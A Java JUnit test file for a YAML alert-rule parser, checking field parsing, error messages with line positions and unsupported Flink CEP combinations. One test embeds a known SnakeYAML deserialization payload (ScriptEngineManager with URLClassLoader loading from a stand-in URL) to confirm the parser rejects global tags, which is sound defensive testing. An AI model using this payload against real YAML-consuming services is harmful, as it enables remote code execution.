package io.forewarn.rules.parse;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import io.forewarn.rules.model.Contiguity;
import io.forewarn.rules.model.Group;
import io.forewarn.rules.model.KeyKind;
import io.forewarn.rules.model.Quantifier;
import io.forewarn.rules.model.RecordKind;
import io.forewarn.rules.model.Rule;
import io.forewarn.rules.model.RuleException;
import io.forewarn.rules.model.RuleProblem;
import io.forewarn.rules.model.SkipStrategy;
import io.forewarn.rules.model.Step;
import io.forewarn.schema.MetricSample;
import io.forewarn.schema.Severity;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;

class RuleParserTest {

    private static final String HEADER =
            """
            id: disk-fill
            version: 3
            description: disk fills up
            owner: sre
            key: host
            """;

    private static final String OUTPUT =
            """
            output:
              failureType: disk-full
              probability: 0.7
              summary: "disk of {{key}}"
            """;

    private static Rule parse(String text) throws RuleException {
        return new RuleParser().parse("rules/disk-fill.yaml", text);
    }

    private static List<RuleProblem> problems(String text) {
        return catchThrowableOfType(RuleException.class, () -> parse(text)).problems();
    }

    private static List<String> messages(String text) {
        return problems(text).stream().map(RuleProblem::toString).toList();
    }

    @Test
    void readsEveryPartOfARule() throws Exception {
        Rule rule =
                parse(
                        HEADER
                                +
"""
severity: critical
labels: {team: storage}
within: 30m
skip: {skip-to-last: rising}
pattern:
  - step: rising
    match: {metric: [disk_used_ratio, fs_used_ratio], service: db}
    where: value > 0.9
    timesOrMore: 3
    consecutive: true
  - group:
      - step: error
        match: {log: [error, FATAL]}
      - step: more
        contiguity: next
        match: {log: any}
    contiguity: followedByAny
    times: {min: 1, max: 2}
    optional: true
output:
  failureType: disk-full
  probability: "0.5 + 0.1 * double(size(steps.rising))"
  timeToImpact: {expected: 15m, lower: 5m, upper: 1h}
  summary: "disk {{percent(steps.rising[0].value)}}"
  evidence:
    rising: "{{value}}"
  actions:
    - title: Free space
      runbook: https://runbooks.example.com/disk
tests:
  - name: fills
    host: db-1
    input: |
      0s every 1m x3 metric disk_used_ratio{mount="/"} 0.91+0.01 service=db
      3m log ERROR "No space left on device: /var/lib"
    expect:
      - at: 3m
        evidence: [rising@0s, rising@1m, rising@2m, error@3m]
""");
        assertThat(rule.id()).isEqualTo("disk-fill");
        assertThat(rule.version()).isEqualTo(3);
        assertThat(rule.severity()).isEqualTo(Severity.CRITICAL);
        assertThat(rule.key()).isEqualTo(KeyKind.HOST);
        assertThat(rule.within()).isEqualTo(Duration.ofMinutes(30));
        assertThat(rule.skip())
                .isEqualTo(new SkipStrategy(SkipStrategy.Kind.SKIP_TO_LAST, "rising"));
        Step rising = (Step) rule.pattern().get(0);
        assertThat(rising.selector().kind()).isEqualTo(RecordKind.METRIC);
        assertThat(rising.selector().values())
                .containsExactlyInAnyOrder("disk_used_ratio", "fs_used_ratio");
        assertThat(rising.selector().services()).containsExactly("db");
        assertThat(rising.quantifier())
                .isEqualTo(
                        new Quantifier(
                                Quantifier.Kind.TIMES_OR_MORE,
                                3,
                                -1,
                                false,
                                false,
                                Quantifier.Inner.CONSECUTIVE));
        Group group = (Group) rule.pattern().get(1);
        assertThat(group.contiguity()).isEqualTo(Contiguity.FOLLOWED_BY_ANY);
        assertThat(group.quantifier().optional()).isTrue();
        assertThat(((Step) group.nodes().get(0)).selector().values())
                .containsExactlyInAnyOrder("ERROR", "FATAL");
        assertThat(((Step) group.nodes().get(1)).contiguity()).isEqualTo(Contiguity.NEXT);
        assertThat(rule.output().timeToImpact().upper()).isEqualTo(Duration.ofHours(1));
        assertThat(rule.tests().get(0).input()).hasSize(4);
        MetricSample third = (MetricSample) rule.tests().get(0).input().get(2).getRecord();
        assertThat(third.getValue()).isEqualTo(0.93, org.assertj.core.data.Offset.offset(1e-9));
        assertThat(third.getLabels()).containsEntry("mount", "/");
        assertThat(third.getHost()).isEqualTo("db-1");
        assertThat(rule.tests().get(0).expected().get(0).evidence())
                .containsExactly("rising@0s", "rising@1m", "rising@2m", "error@3m");
    }

    @Test
    void anUnknownFieldIsNamedWithItsPlaceAndTheClosestKnownField() {
        assertThat(
                        messages(
                                HEADER
                                        + "withn: 10m\n"
                                        + "pattern:\n"
                                        + "  - step: a\n"
                                        + "    match: {metric: a}\n"
                                        + OUTPUT))
                .anyMatch(
                        m ->
                                m.startsWith(
                                                "rules/disk-fill.yaml:6:1: rule disk-fill: unknown"
                                                        + " field 'withn' in the rule")
                                        && m.contains("did you mean 'within'?"));
    }

    @Test
    void aRuleWithoutWithinIsRejectedBecauseItCouldHoldStateForever() {
        assertThat(messages(HEADER + "pattern:\n  - step: a\n    match: {metric: a}\n" + OUTPUT))
                .containsExactly(
                        "rules/disk-fill.yaml:1:1: rule disk-fill: the rule has no 'within': its"
                                + " partial matches could be held forever. Fix: add 'within: 10m' (the"
                                + " longest time one match may span)");
    }

    @Test
    void valuesOfTheWrongTypeSayWhatWasExpected() {
        assertThat(
                        messages(
                                HEADER.replace("version: 3", "version: three")
                                        + """
                                          within: soon
                                          pattern:
                                            - step: a
                                              match: {metric: a}
                                              times: lots
                                              optional: maybe
                                          """
                                        + OUTPUT))
                .anyMatch(
                        m ->
                                m.startsWith("rules/disk-fill.yaml:2:10:")
                                        && m.contains(
                                                "'version' in the rule must be a whole number, not"
                                                        + " 'three'"))
                .anyMatch(
                        m ->
                                m.startsWith("rules/disk-fill.yaml:6:9:")
                                        && m.contains("must be a duration, not 'soon'")
                                        && m.contains("30s, 5m"))
                .anyMatch(
                        m ->
                                m.startsWith("rules/disk-fill.yaml:10:12:")
                                        && m.contains("must be a whole number, not 'lots'"))
                .anyMatch(
                        m ->
                                m.startsWith("rules/disk-fill.yaml:11:15:")
                                        && m.contains("must be true or false, not 'maybe'"));
    }

    @Test
    void combinationsFlinkCepDoesNotSupportAreExplained() {
        assertThat(
                        messages(
                                HEADER
                                        + """
                                          within: 5m
                                          pattern:
                                            - step: a
                                              contiguity: next
                                              match: {metric: a}
                                            - step: b
                                              contiguity: notFollowedBy
                                              match: {metric: b}
                                              times: 2
                                            - step: c
                                              match: {metric: c}
                                              greedy: true
                                            - step: d
                                              match: {metric: d}
                                              times: 2
                                              oneOrMore: true
                                            - group:
                                                - step: e
                                                  match: {metric: e}
                                              greedy: true
                                              times: 2
                                            - group:
                                                - step: f
                                                  match: {metric: f}
                                              contiguity: notNext
                                          """
                                        + OUTPUT))
                .anyMatch(
                        m ->
                                m.contains(":9:17:")
                                        && m.contains(
                                                "the first step of the pattern has no step before"
                                                        + " it"))
                .anyMatch(
                        m ->
                                m.contains(":14:5:")
                                        && m.contains(
                                                "unsupported combination: 'times' on a negated"
                                                        + " (notFollowedBy) step"))
                .anyMatch(
                        m ->
                                m.contains(":17:5:")
                                        && m.contains("'greedy' applies to repeated steps only"))
                .anyMatch(
                        m ->
                                m.contains(":21:5:")
                                        && m.contains(
                                                "unsupported combination: times and oneOrMore"))
                .anyMatch(m -> m.contains("Flink CEP has no greedy groups"))
                .anyMatch(m -> m.contains("Flink CEP cannot negate a group"));
    }

    @Test
    void stepNamesMustBeUniqueAndUsableInConditions() {
        assertThat(
                        messages(
                                HEADER
                                        + """
                                          within: 5m
                                          pattern:
                                            - step: a
                                              match: {metric: a}
                                            - step: a
                                              match: {metric: b}
                                            - step: in
                                              match: {metric: c}
                                          """
                                        + OUTPUT))
                .anyMatch(m -> m.contains(":10:11:") && m.contains("two steps are named 'a'"))
                .anyMatch(
                        m ->
                                m.contains(":12:11:")
                                        && m.contains(
                                                "step name 'in' cannot be used in conditions"));
    }

    @Test
    void selectorsNameOneRecordKindWithValidValues() {
        assertThat(
                        messages(
                                HEADER
                                        + """
                                          within: 5m
                                          pattern:
                                            - step: a
                                              match: {metric: a, log: ERROR}
                                            - step: b
                                              match: {log: [ERRROR]}
                                            - step: c
                                              match: {deployment: DONE}
                                          """
                                        + OUTPUT))
                .anyMatch(m -> m.contains("'match' names 2 record kinds"))
                .anyMatch(m -> m.contains("'ERRROR' is not a log level"))
                .anyMatch(m -> m.contains("'DONE' is not a deployment status"));
    }

    @Test
    void syntaxErrorsPointAtTheYaml() {
        assertThat(messages("id: x\nversion: [1\n"))
                .singleElement()
                .satisfies(
                        m -> assertThat(m).startsWith("rules/disk-fill.yaml:3:1: not valid YAML"));
    }

    @Test
    void testInputLinesAreCheckedWithTheirLocation() {
        assertThat(
                        messages(
                                HEADER
                                        + """
                                          within: 5m
                                          pattern:
                                            - step: a
                                              match: {metric: a}
                                          """
                                        + OUTPUT
                                        + """
                                          tests:
                                            - name: bad input
                                              input: |
                                                0s metric a 1
                                                1m metrics a 2
                                                2m metric a lots
                                                3m log LOUD "x"
                                              expect: []
                                          """))
                .anyMatch(
                        m ->
                                m.startsWith("rules/disk-fill.yaml:18:10:")
                                        && m.contains("unknown record kind 'metrics'"))
                .anyMatch(
                        m ->
                                m.startsWith("rules/disk-fill.yaml:19:19:")
                                        && m.contains("'lots' is not a number"))
                .anyMatch(
                        m ->
                                m.contains(
                                        "'LOUD' is not one of TRACE, DEBUG, INFO, WARN, ERROR,"
                                                + " FATAL, UNKNOWN"));
    }

    @Test
    void yamlTagsDoNotConstructAnything() {
        assertThat(
                        messages(
                                HEADER.replace(
                                                "description: disk fills up",
                                                "description: !!javax.script.ScriptEngineManager"
                                                        + " [!!java.net.URLClassLoader [[!!java.net.URL"
                                                        + " [\"http://x\"]]]]")
                                        + "within: 5m\n"
                                        + "pattern:\n"
                                        + "  - step: a\n"
                                        + "    match: {metric: a}\n"
                                        + OUTPUT))
                .singleElement()
                .satisfies(
                        m -> assertThat(m).contains("not valid YAML: Global tag is not allowed"));
    }

    @Test
    void durationsRoundTrip() {
        assertThat(Durations.parse("1h30m")).isEqualTo(Duration.ofMinutes(90));
        assertThat(Durations.parse("250ms")).isEqualTo(Duration.ofMillis(250));
        assertThat(Durations.parse("5 minutes")).isNull();
        assertThat(Durations.format(Duration.ofSeconds(90))).isEqualTo("1m30s");
        assertThat(Durations.format(Duration.ZERO)).isEqualTo("0s");
    }
}
